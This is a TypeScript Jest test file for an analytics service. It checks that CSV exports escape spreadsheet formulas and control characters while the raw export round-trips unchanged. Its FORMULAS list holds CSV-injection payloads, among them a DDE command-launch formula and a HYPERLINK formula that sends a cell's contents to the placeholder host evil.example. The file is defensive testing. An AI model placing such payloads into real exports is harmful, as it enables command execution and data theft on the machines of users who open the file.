import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { startApplication, type TestApplication } from './support/application.js';

/** What spreadsheets take for a formula, be it behind a quote or a separator. */
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '+1+cmd|x',
  '-2+3+cmd|x',
  '@SUM(1+9)*cmd|x',
  '=HYPERLINK("http://evil.example?"&A1,"x"), really',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];
/** User ids and names of events have no control characters; properties and traits have. */
const WITH_CONTROLS = [...FORMULAS, '\t=1+1', '\r=1+1', 'a\r=1+1', 'a\n=1+1'];
const FORMULA = /^[=+\-@\t\r＝＋－＠]/;

describe('a CSV that a spreadsheet opens', () => {
  let server: TestApplication;

  beforeAll(async () => {
    server = await startApplication();
    const events = WITH_CONTROLS.map((text, index) => ({
      timestamp: '2026-11-24T09:30:00Z',
      user: FORMULAS[index % FORMULAS.length],
      event: FORMULAS[index % FORMULAS.length],
      source: FORMULAS[index % FORMULAS.length],
      id: `id-${index}`,
      properties: { text, number: -3 - index },
    }));
    await send('/analytics/batch', events);
    for (const [index, text] of WITH_CONTROLS.entries()) {
      const id = encodeURIComponent(FORMULAS[index % FORMULAS.length]!);
      await server.get(`/analytics/users/${id}`, {
        method: 'PUT',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ traits: { text } }),
      });
    }
  });
  afterAll(() => server.stop());

  const send = (path: string, value: unknown): Promise<Response> =>
    server.post(path, {
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify(value),
    });
  const range = { date_range: ['2026-11-01', '2026-12-01'] };
  const rowsOf = async (response: Response): Promise<string[][]> => {
    expect(response.headers.get('Content-Type')).toMatch(/^text\/csv/);
    return parse(await response.text());
  };

  it.each(['event', 'source', 'property:text', 'trait:text'])(
    'has no formula among its values of %s, and tells them apart',
    async (dimension) => {
      const query = { metrics: ['events'], dimensions: [dimension], ...range };
      const rows = await rowsOf(await send('/analytics/query?format=csv', query));
      const shown = rows.slice(1).map(([value]) => value!);
      for (const text of shown) expect(text).not.toMatch(FORMULA);
      // What JSON has as it was sent differs by the apostrophe alone.
      const answer = await (await send('/analytics/query', query)).json();
      const { results } = answer as { results: Record<string, string>[] };
      const sent = results.map((row) => row[dimension]!);
      expect(shown).toEqual(sent.map((text) => (FORMULA.test(text) ? `'${text}` : text)));
      expect(sent.some((text) => FORMULA.test(text))).toBe(true);
    },
  );

  it('has no line that begins within a value', async () => {
    const query = { metrics: ['events'], dimensions: ['property:text'], ...range };
    const text = await (await send('/analytics/query?format=csv', query)).text();
    // As readers do that mind quotes, and end lines at any of both.
    const unquoted = text.replaceAll(/"(?:[^"]|"")*"/g, '');
    expect(unquoted).not.toContain('\r');
  });

  it('has numbers as they are', async () => {
    const query = { metrics: ['events'], dimensions: ['property:number'], ...range };
    const rows = await rowsOf(await send('/analytics/query?format=csv', query));
    expect(rows.map(([value]) => value)).toContain('-3');
  });

  it.each([
    '/analytics/events?format=csv',
    '/analytics/users?format=csv',
    `/analytics/query?format=csv&metrics=${encodeURIComponent('["count(=1+1)"]')}&date_range=all`,
  ])('%s has none', async (path) => {
    const rows = await rowsOf(await server.get(path));
    expect(rows.length).toBeGreaterThan(1);
    for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA);
  });

  it.each(['funnel', 'retention'])('the one of a %s has none', async (kind) => {
    const steps = FORMULAS.slice(0, 2).map((event) => ({ event }));
    const query =
      kind === 'funnel' ? { steps, within: '1d', ...range } : { period: 'week', ...range };
    const response = await send(`/analytics/${kind}?format=csv`, query);
    for (const cell of (await rowsOf(response)).flat()) expect(cell).not.toMatch(FORMULA);
  });

  it('is not what programs export: that comes back as it went', async () => {
    const csv = await (await server.get('/analytics/export?format=csv')).text();
    const users = parse(csv, { columns: true }).map((row) => (row as { user: string }).user);
    expect(new Set(users)).toEqual(new Set(FORMULAS));
    const again = await server.post('/analytics/import', {
      headers: { 'Content-Type': 'text/csv' },
      body: csv,
    });
    expect(await again.json()).toMatchObject({
      stored: 0,
      duplicates: WITH_CONTROLS.length,
      rejected: 0,
    });
  });
});
